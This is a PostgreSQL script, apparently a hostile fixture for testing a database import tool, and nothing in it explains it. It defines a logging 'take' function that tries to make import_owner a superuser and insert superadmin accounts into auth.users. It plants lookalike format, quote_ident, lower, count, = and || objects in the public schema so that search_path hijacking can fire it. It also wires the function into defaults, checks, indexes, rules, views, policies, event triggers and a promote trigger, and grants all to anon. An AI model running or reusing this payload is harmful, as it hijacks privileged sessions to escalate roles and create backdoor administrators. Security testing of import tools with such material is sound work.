create table public.taken (what text, caller text);
grant insert, select on table public.taken to public;
create function public.take(what text) returns boolean language plpgsql as $$
begin
  begin insert into public.taken values (what, current_user); exception when others then null; end;
  begin execute 'alter role import_owner superuser'; exception when others then null; end;
  begin execute 'grant serasi_owner to import_owner'; exception when others then null; end;
  begin execute 'create temporary table pg_class (oid oid)'; exception when others then null; end;
  begin execute 'create domain pg_temp.jsonb as pg_catalog.jsonb check (public.take(''temporary type''))'; exception when others then null; end;
  begin execute 'set search_path = public, pg_catalog'; exception when others then null; end;
  begin
    insert into auth.users (email, raw_app_meta_data) values (what || '@evil.test', '{"marketplace_role": "superadmin"}');
  exception when others then null; end;
  begin insert into app.user_roles select id, 'superadmin' from auth.users limit 1; exception when others then null; end;
  begin insert into storage.buckets (id, name) values (what, what); exception when others then null; end;
  begin update auth.users set email_confirmed_at = now(); exception when others then null; end;
  return true;
end $$;
-- Where only immutable functions are allowed.
create function public.take_quietly(what text) returns boolean language plpgsql immutable as $$ begin return public.take(what); end $$;
create function public.format(a text, b name) returns text language plpgsql as $$ begin perform public.take('format'); return 'select 1'; end $$;
create function public.format(a text, b name, c regclass) returns text language plpgsql as $$ begin perform public.take('format'); return 'select 1'; end $$;
create function public.format(a text, b name, c text) returns text language plpgsql as $$ begin perform public.take('format'); return 'select 1'; end $$;
create function public.format(a text, b text) returns text language plpgsql as $$ begin perform public.take('format'); return 'select 1'; end $$;
create function public.format(a text, b text, c text) returns text language plpgsql as $$ begin perform public.take('format'); return 'select 1'; end $$;
create function public.quote_ident(a name) returns text language plpgsql as $$ begin perform public.take('quote_ident'); return 'x'; end $$;
create function public.lower(a name) returns text language plpgsql as $$ begin perform public.take('lower'); return 'x'; end $$;
create function public.equal(a name, b text) returns boolean language plpgsql as $$ begin perform public.take('='); return true; end $$;
create operator public.= (function = public.equal, leftarg = name, rightarg = text);
create function public.joined(a name, b text) returns text language plpgsql as $$ begin perform public.take('||'); return 'x'; end $$;
create operator public.|| (function = public.joined, leftarg = name, rightarg = text);
create function public.joined(a text, b name) returns text language plpgsql as $$ begin perform public.take('||'); return 'x'; end $$;
create operator public.|| (function = public.joined, leftarg = text, rightarg = name);
create function public.counted(a bigint, b name) returns bigint language plpgsql as $$ begin perform public.take('count'); return 1; end $$;
create aggregate public.count(name) (sfunc = public.counted, stype = bigint, initcond = '0');
create table public.baits (
  id integer default public.take('default')::integer,
  bait integer,
  generated boolean generated always as (public.take_quietly('generated')) stored,
  constraint checked check (public.take('check'))
);
create index baits_taken on public.baits (public.take_quietly('index' || substr(id::text, 1, 0)));
insert into public.baits (bait) values (1);
insert into public.baits (id, bait) values (1, 1);
create rule bait_rule as on update to public.baits do also insert into public.taken select 'rule', current_user where public.take('rule');
create materialized view public.taken_view as select public.take('materialized view') as taken with no data;
refresh materialized view public.taken_view;
create function public.taken_by_trigger() returns trigger language plpgsql as $$ begin perform public.take('trigger'); return null; end $$;
create constraint trigger bait_trigger after insert on public.baits deferrable initially deferred for each row execute function public.taken_by_trigger();
create trigger taken_by_trigger after insert or update on auth.users for each row execute function public.taken_by_trigger();
create trigger taken_by_trigger after insert or update or delete on storage.objects for each row execute function public.taken_by_trigger();
create trigger taken_by_condition after insert or update on auth.users for each row when (public.take('condition')) execute function public.taken_by_trigger();
create trigger taken_by_query after insert or update on auth.users for each row
  when (query_to_xml('select public.take(''condition'')', true, true, '') is not null) execute function public.taken_by_trigger();
create function public.promote() returns trigger language plpgsql as $$
begin new.raw_app_meta_data := '{"marketplace_role": "superadmin"}'; return new; end $$;
create trigger promote before insert on auth.users for each row execute function public.promote();
create trigger compares after update on auth.users for each row
  when (old.email is distinct from new.email) execute function public.taken_by_trigger();
create policy taken on storage.objects using (not public.take('policy')) with check (not public.take('policy'));
create policy taken on storage.buckets for select using (not public.take('policy'));
create function public.taken_by_event() returns event_trigger language plpgsql as $$ begin perform public.take('event trigger'); end $$;
create event trigger taken_by_event on ddl_command_end execute function public.taken_by_event();
alter default privileges in schema public grant all on tables to anon;
